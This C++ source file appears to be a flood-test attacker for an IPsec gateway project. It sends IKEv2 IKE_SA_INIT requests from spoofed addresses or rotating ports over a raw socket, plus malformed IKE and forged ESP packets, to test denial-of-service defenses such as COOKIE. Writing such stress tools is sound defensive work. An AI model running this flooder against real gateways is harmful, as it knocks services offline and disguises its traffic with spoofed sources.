// ike_flood: an attacker for the flood test. Sends IKEv2 IKE_SA_INIT requests
// (a real one, built by ipsecgw's own engine as an initiator would) to a
// gateway as fast as one core allows, for a given time, in one of two ways:
//
//   spoof   from random source addresses in 100.64.0.0/10, each with its own
//           SPIi (raw socket, IP_HDRINCL: nobody can answer a COOKIE)
//   ports   from this host's address, one SPIi, every source port in turn
//           (no spoofing needed; the finding that made COOKIE never engage)
//
//   garbage random bytes (1 to 1500) to UDP 500 and 4500, IKE headers cut
//           short or claiming more than they carry, oversized messages
//   esp      ESP in UDP 4500 with random SPIs, and with SPI (if given as
//           SRC_ADDR: "0x..."): a real SA's, so its ICV check fails
//
// usage: ike_flood spoof|ports|garbage|esp DST_ADDR SECONDS [SRC_ADDR|SPI]
// Prints the number of datagrams sent.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <iostream>
#include <random>
#include <string>

#include "core/log.hpp"
#include "ike/engine.hpp"

using namespace ipsecgw;

namespace {

struct NullInstaller : core::SaInstaller {
  bool install(core::SaParams, std::string&) override { return true; }
  bool remove(const std::string&) override { return true; }
};

// One IKE_SA_INIT request from an ipsecgw initiator (X25519, AES-GCM).
core::Bytes template_request(const core::IpAddress& src, const core::IpAddress& dst) {
  ike::ConnectionConfig c;
  c.name = "flood";
  c.local_addrs = {src};
  c.remote_addrs = {dst};
  std::string bad;
  c.proposals.push_back(*core::parse_proposal("aes128gcm16-prfsha256-x25519", bad));
  NullInstaller inst;
  std::vector<ike::ConnectionConfig> v;
  v.push_back(std::move(c));
  ike::Engine e(std::move(v), inst);
  std::string why;
  if (!e.initiate("flood", "", ike::Clock::now(), why)) throw std::runtime_error(why);
  auto out = e.take_output();
  if (out.empty()) throw std::runtime_error("no IKE_SA_INIT");
  return out[0].data;
}

std::uint16_t checksum(const std::uint8_t* p, std::size_t n) {
  std::uint32_t s = 0;
  for (std::size_t i = 0; i + 1 < n; i += 2) s += static_cast<std::uint32_t>(p[i] << 8 | p[i + 1]);
  if (n & 1) s += static_cast<std::uint32_t>(p[n - 1] << 8);
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return static_cast<std::uint16_t>(~s);
}

// UDP from this host (an ordinary socket): garbage IKE, or ESP in UDP.
int garbage(const std::string& mode, const core::IpAddress& dst, double seconds, const std::string& spi_hex) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) return 1;
  std::mt19937_64 rng(7);
  const std::uint32_t real_spi = spi_hex.empty() ? 0 : static_cast<std::uint32_t>(std::stoul(spi_hex, nullptr, 16));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  std::memcpy(&to.sin_addr, dst.bytes().data(), 4);
  std::vector<std::uint8_t> buf(9000);
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  for (std::uint64_t i = 0;; ++i) {
    if ((i & 255) == 0 && std::chrono::steady_clock::now() >= until) break;
    std::size_t len = 1 + rng() % 1500;
    for (std::size_t k = 0; k < 1500; k += 8) {  // 8 random bytes at a time
      const std::uint64_t r = rng();
      std::memcpy(buf.data() + k, &r, 8);
    }
    std::uint16_t port = 500;
    if (mode == "garbage") {
      switch (i % 5) {
        case 0: break;                          // random bytes to 500
        case 1: port = 4500; buf[0] = buf[1] = buf[2] = buf[3] = 0; break;  // "IKE" on 4500, random
        case 2: {                               // an IKEv2 header claiming more than it carries
          buf[17] = 0x20;
          buf[18] = 34;
          const std::uint32_t claimed = static_cast<std::uint32_t>(len + 100 + rng() % 60000);
          buf[24] = static_cast<std::uint8_t>(claimed >> 24);
          buf[25] = static_cast<std::uint8_t>(claimed >> 16);
          buf[26] = static_cast<std::uint8_t>(claimed >> 8);
          buf[27] = static_cast<std::uint8_t>(claimed);
          len = std::max<std::size_t>(len, 28);
          break;
        }
        case 3: len = 1 + rng() % 27; break;    // shorter than any header
        case 4: len = 8000 + rng() % 1000; buf[17] = 0x20; break;  // oversized
      }
    } else {
      port = 4500;
      len = 64 + rng() % 1300;
      std::uint32_t spi = (i & 1) && real_spi ? real_spi : static_cast<std::uint32_t>(rng() | 0x100);
      buf[0] = static_cast<std::uint8_t>(spi >> 24);
      buf[1] = static_cast<std::uint8_t>(spi >> 16);
      buf[2] = static_cast<std::uint8_t>(spi >> 8);
      buf[3] = static_cast<std::uint8_t>(spi);
    }
    to.sin_port = htons(port);
    if (::sendto(fd, buf.data(), len, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
  }
  ::close(fd);
  std::cout << sent << "\n";
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 4) {
    std::cerr << "usage: ike_flood spoof|ports DST_ADDR SECONDS [SRC_ADDR]\n";
    return 2;
  }
  core::log::set_level(core::log::Level::kError);
  const std::string mode = argv[1];
  const auto dst = core::IpAddress::parse(argv[2]);
  const double seconds = std::stod(argv[3]);
  if (mode == "garbage" || mode == "esp") return garbage(mode, *dst, seconds, argc > 4 ? argv[4] : "");
  const auto src = core::IpAddress::parse(argc > 4 ? argv[4] : "100.64.0.1");
  if (!dst || !dst->is_v4() || !src) return 2;
  const core::Bytes ike = template_request(*src, *dst);
  std::mt19937_64 rng(42);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(500);
  std::memcpy(&to.sin_addr, dst->bytes().data(), 4);
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  // A raw socket for both: in "ports" mode with our own address (one
  // socket per source port would be slow).
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("raw socket");
    return 1;
  }
  std::vector<std::uint8_t> pkt(20 + 8 + ike.size());
  std::memcpy(pkt.data() + 28, ike.data(), ike.size());
  auto* ip = reinterpret_cast<iphdr*>(pkt.data());
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(static_cast<std::uint16_t>(pkt.size()));
  std::memcpy(&ip->daddr, dst->bytes().data(), 4);
  auto* udp = reinterpret_cast<udphdr*>(pkt.data() + 20);
  udp->dest = htons(500);
  udp->len = htons(static_cast<std::uint16_t>(8 + ike.size()));
  std::uint32_t port = 1024;
  while (true) {
    if ((sent & 255) == 0 && std::chrono::steady_clock::now() >= until) break;
    if (mode == "spoof") {
      const std::uint64_t r = rng();
      const std::uint32_t a = 0x64400000u | static_cast<std::uint32_t>(r & 0x3fffff);  // 100.64.0.0/10
      const std::uint32_t be = htonl(a);
      std::memcpy(&ip->saddr, &be, 4);
      udp->source = htons(static_cast<std::uint16_t>(1024 + (r >> 32) % 60000));
      std::memcpy(pkt.data() + 28, &r, 8);  // SPIi
    } else {
      std::memcpy(&ip->saddr, src->bytes().data(), 4);
      udp->source = htons(static_cast<std::uint16_t>(port));
      port = port == 65535 ? 1024 : port + 1;
    }
    ip->check = 0;
    ip->check = checksum(pkt.data(), 20);
    udp->check = 0;  // optional over IPv4
    if (::sendto(fd, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0) ++sent;
  }
  ::close(fd);
  std::cout << sent << "\n";
  return 0;
}
